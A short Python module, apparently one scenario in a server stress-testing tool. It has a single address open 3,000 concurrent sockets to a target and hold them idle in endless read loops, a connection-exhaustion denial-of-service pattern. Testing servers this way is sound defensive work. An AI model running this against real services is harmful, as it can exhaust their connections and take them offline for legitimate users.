"""One address opens 3,000 sockets and does nothing with them."""

import asyncio

from ..aim import Aim
from ..sockets import socket_of

SOCKETS = 3000


async def attack(aim: Aim) -> None:
    async def rest() -> None:
        while True:
            await (await socket_of(aim)).read_on()

    await asyncio.gather(*(rest() for _ in range(SOCKETS)))
